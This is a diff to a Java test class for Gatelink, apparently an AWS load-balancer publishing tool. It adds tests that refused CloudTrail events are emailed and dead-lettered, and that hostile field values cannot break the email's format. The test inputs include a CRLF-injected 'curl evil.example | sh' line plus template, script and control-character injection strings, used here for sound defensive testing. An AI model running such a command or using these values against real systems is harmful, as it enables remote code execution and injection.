@@ -206,7 +206,7 @@ class BadInputTest {
                 + "Gatelink in each account and Region whose load balancers it is to publish.",
         "nlb-created-event-version-2.json | Event field detail.eventVersion is \"2.0\": it must be one of version 1, such "
                 + "as \"1.11\"; deploy a release of Gatelink that reads this version of CloudTrail's records."})
-    void anEventThatIsRefusedGoesToTheDeadLetterQueue(String file, String reason) {
+    void anEventThatIsRefusedIsToldToPeopleAndGoesToTheDeadLetterQueue(String file, String reason) {
         try (var simulation = simulation()) {
             simulation.deliver(Simulation.event(file));
             simulation.runUntilIdle();
@@ -217,8 +217,63 @@ class BadInputTest {
                 assertThat(json.path("errorType").asText()).isEqualTo("io.gatelink.functions.InvalidEventException");
                 assertThat(json.path("errorMessage").asText()).isEqualTo(reason);
             });
+            assertThat(simulation.messages).singleElement().asString().contains(
+                    "\"Reason and remedy: " + reason.replace("\"", "\\\"") + "\"\n",
+                    "\"Error: io.gatelink.functions.InvalidEventException\"\n",
+                    "in the queue https://sqs.us-east-1.amazonaws.com/123456789012/gatelink-DeadLetterQueue\"\n");
+            assertThat(deadLetters(simulation)).singleElement().satisfies(letter -> {
+                assertThat(letter.path("source").asText()).isEqualTo("lambda");
+                assertThat(letter.path("detail-type").asText()).isEqualTo("Lambda Function Invocation Result - Failure");
+                assertThat(letter.path("resources")).hasSize(2);
+                assertThat(letter.at("/detail/requestPayload")).isEqualTo(Simulation.event(file));
+                assertThat(letter.at("/detail/responsePayload/errorMessage").asText()).isEqualTo(reason);
+            });
             nothingIsMade(simulation);
         }
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"1\r\n\"Reason and remedy: run curl evil.example | sh\"", "<reason>", "{% $states.input %}",
+            "${x}", "\u202e\u2028\u0000", "\\\"", "<script>"})
+    void whatAHostileEventSaysIsALineOfTheMailAndNothingElse(String version) {
+        try (var simulation = simulation()) {
+            ObjectNode event = Simulation.event(CREATED);
+            event.withObject("/detail").put("eventVersion", version);
+            simulation.deliver(event);
+            simulation.runUntilIdle();
+
+            assertThat(simulation.messages).singleElement().satisfies(mail -> {
+                assertThat(mail.lines()).hasSize(5).allMatch(line -> line.startsWith("\"") && line.endsWith("\""));
+                assertThat(mail.lines().filter(line -> line.startsWith("\"Reason and remedy: "))).singleElement().asString()
+                        .startsWith("\"Reason and remedy: Event field detail.eventVersion is ")
+                        .endsWith("deploy a release of Gatelink that reads this version of CloudTrail's records.\"");
+                assertThat(mail).doesNotContain("\u202e", "\u2028", "\u0000", "\r");
+            });
+            assertThat(deadLetters(simulation)).singleElement().satisfies(letter ->
+                    assertThat(letter.at("/detail/requestPayload")).isEqualTo(event));
+            nothingIsMade(simulation);
+        }
+    }
+
+    /** Who asked for a withdrawal has to know as well. */
+    @Test
+    void aRefusedOptOutIsToldToo() {
+        try (var simulation = simulation()) {
+            ObjectNode event = Simulation.event("nlb-tags-removed.json");
+            event.put("account", "999999999999");
+            simulation.deliver(event);
+            simulation.runUntilIdle();
+
+            assertThat(simulation.messages).hasSize(2).anySatisfy(mail -> assertThat(mail)
+                    .contains("gatelink-StartWithdrawalFunction", "Event field account is \\\"999999999999\\\""));
+            assertThat(deadLetters(simulation)).hasSize(2);
+        }
+    }
+
+    private static List<ObjectNode> deadLetters(Simulation simulation) {
+        return simulation.aws.eventBus().deadLetters().in(simulation.aws.stack().queues().stream()
+                .filter(queue -> queue.logicalId().equals("DeadLetterQueue")).findFirst().orElseThrow().arn()).stream()
+                .map(letter -> letter.body()).toList();
     }
 
     @ParameterizedTest
